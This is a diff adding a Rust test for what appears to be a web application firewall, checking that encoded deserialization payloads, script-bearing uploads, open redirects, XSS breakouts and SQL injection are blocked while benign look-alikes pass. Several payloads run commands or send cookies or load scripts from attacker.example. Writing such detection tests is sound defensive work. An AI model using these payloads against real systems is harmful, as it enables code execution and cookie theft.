@@ -1852,3 +1852,161 @@ fn fourth_review_bypasses_block_and_their_look_alikes_pass() {
     );
     assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
 }
+
+#[test]
+fn fifth_review_bypasses_block_and_their_look_alikes_pass() {
+    let e = default_engine();
+    let form = "application/x-www-form-urlencoded";
+    let blocked = |q: &str, rule: &str| {
+        let v = post(e, "/load", form, &format!("data={}", pct(q)));
+        assert_blocks_with(&v, rule, q);
+    };
+    let passes = |q: &str| {
+        let v = post(e, "/load", form, &format!("data={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    };
+    // Base64 pickles that import a callable and call it: protocol 0
+    // (`cos\nsystem\n(S'id'\ntR.`), 2 to 5 (`subprocess.check_output`).
+    for q in [
+        "Y29zCnN5c3RlbQooUydpZCcKdFIu",
+        "gAJjY29tbWFuZHMKY2hlY2tfb3V0cHV0CnEAXXEBWAIAAABpZHECYYVxA1JxBC4=",
+        "gANjc3VicHJvY2VzcwpjaGVja19vdXRwdXQKcQBdcQFYAgAAAGlkcQJhhXEDUnEELg==",
+        "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
+        "gAWVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
+    ] {
+        blocked(q, "python-pickle-encoded");
+    }
+    // A pickle of plain data, a Ruby session hash with its flash, an
+    // image, a token and a gzipped page pass.
+    for q in [
+        "gASVIAAAAAAAAAB9lCiMBHVzZXKUjANib2KUjANpZHOUXZQoSwFLAmV1Lg==",
+        "BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTAxMjM0NTY3ODlhYmNkZWYwMTIzNDU2Nzg5YWJjZGVmBjsAVEkiCmZsYXNoBjsAVG86JUFjdGlvbkRpc3BhdGNoOjpGbGFzaDo6Rmxhc2hIYXNoBzoKQHVzZWRvOghTZXQGOgpAaGFzaHsAOgxAY2xvc2VkRg==",
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
+        "H4sIAJroFmsC/7MpsMtIzcnJt9EvsAMARPuu0gwAAAA=",
+    ] {
+        passes(q);
+    }
+    // A Ruby Marshal object of a gadget class; a .NET BinaryFormatter
+    // stream in the URL-safe alphabet.
+    blocked(
+        "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50cw==",
+        "ruby-marshal-object",
+    );
+    blocked(
+        "AAEAAAD_____AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I",
+        "dotnet-serialized-encoded",
+    );
+    // A gzipped Java stream in a cookie, as JSF writes its view state.
+    let state = "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7GAlf3WwcNiCReZGZjcGLhy8hNT3BKTS/KLPBk4SzKKUosz8nNSKgrsHRhAgKecA0gKgJgVABrl5KNSAAAA";
+    let v = get_with(e, "/a", "Cookie", &format!("state={state}"));
+    assert_blocks_with(&v, "java-serialized-encoded", "gzipped view state");
+    // An HTML, SVG or XHTML file with a script; a saved page of markup and
+    // CSS, and an image, pass.
+    let mp = "multipart/form-data; boundary=b1";
+    let upload = |filename: &str, ty: &str, data: &str| {
+        let body = format!(
+            "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: {ty}\r\n\r\n{data}\r\n--b1--\r\n"
+        );
+        post(e, "/upload", mp, &body)
+    };
+    for (filename, ty, data) in [
+        (
+            "a.html",
+            "text/html",
+            "<script>fetch(\"//attacker.example/\"+document.cookie)</script>",
+        ),
+        (
+            "a.htm",
+            "application/octet-stream",
+            "<body><img src=x onerror=\"fetch('//x.example')\"></body>",
+        ),
+        (
+            "a.svg",
+            "image/svg+xml",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//x.example')\"/>",
+        ),
+        (
+            "a.xhtml",
+            "application/xhtml+xml",
+            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:go()\">a</a></html>",
+        ),
+        (
+            "a.txt",
+            "text/html",
+            "<p>x</p><script src=\"//x.example/a.js\"></script>",
+        ),
+    ] {
+        assert_blocks_with(
+            &upload(filename, ty, data),
+            "upload-markup-script",
+            filename,
+        );
+    }
+    for (filename, ty, data) in [
+        (
+            "page.html",
+            "text/html",
+            "<!doctype html><html><head><style>body{font:14px Arial}</style></head><body><h1>Notes</h1><p class=\"one\">Saved online</p><a href=\"/about\">About</a></body></html>",
+        ),
+        (
+            "logo.svg",
+            "image/svg+xml",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>",
+        ),
+        (
+            "photo.jpg",
+            "image/jpeg",
+            "\u{ff}\u{d8}\u{ff}\u{e0}JFIF onload=1 <script",
+        ),
+    ] {
+        let v = upload(filename, ty, data);
+        assert_eq!(v.action, Action::Pass, "{filename}: {:?}", v.attacks);
+    }
+    // Open redirects: two backslashes read as two slashes. A plain
+    // protocol-relative URL passes, in a redirect's parameter too (sites
+    // send their CDNs' and sibling sites' so).
+    for t in [
+        "/redirect?url=%5C%5Cattacker.example",
+        "/redirect?url=%5C%2Fattacker.example",
+        "/redirect?url=%2F%5Cattacker.example",
+    ] {
+        assert_blocks_with(&get(e, t), "open-redirect-slashes", t);
+    }
+    for t in [
+        "/embed?url=//cdn.example/app.js",
+        "/login?next=//cdn.example/home",
+        "/redirect?url=//www.app.example/home",
+        "/login?next=/dashboard",
+    ] {
+        let v = get(e, t);
+        assert!(v.attacks.is_empty(), "{t}: {:?}", v.attacks);
+    }
+    // A script element made inside a JS string breakout; another element
+    // passes.
+    let q = "'-(s=document.createElement('script'),s.src='//attacker.example/x.js',document.head.append(s))-'";
+    assert_blocks_with(
+        &get(e, &format!("/page?q={}", pct(q))),
+        "xss-script-element",
+        q,
+    );
+    for q in [
+        "var d = document.createElement('div'); d.className = 'note';",
+        "const row = document.createElement('tr');",
+    ] {
+        let v = get(e, &format!("/page?q={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    }
+    // JS setting markup from a plain string literal is no SQL string
+    // closed early; a quote closed then `;` still is.
+    passes("document.getElementById('x').innerHTML = 'hello';");
+    let v = get(e, &format!("/a?id={}", pct("admin';")));
+    assert!(
+        v.attacks
+            .iter()
+            .any(|a| a.rule == "sqli-quote-tail-comment"),
+        "{:?}",
+        v.attacks
+    );
+    blocked("x';document.body.innerHTML=location.hash;//", "xss-js-sink");
+}
